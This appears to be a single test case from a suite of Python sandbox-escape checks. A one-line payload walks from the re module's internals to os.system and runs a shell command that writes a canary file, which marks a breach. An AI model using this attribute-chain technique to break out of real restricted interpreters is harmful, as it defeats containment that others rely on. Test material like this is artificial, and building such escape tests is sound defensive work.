# id: 576
# name: re_template_eval
# category: interpreter
# technique: re.Scanner, re.template, sre internals
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
import re
re._compiler._sre if hasattr(re, '_compiler') else 0
re.sub('x', lambda m: re.enum.sys.modules['os'].system('echo breach > ' + CANARY_FILE) or '', 'x')
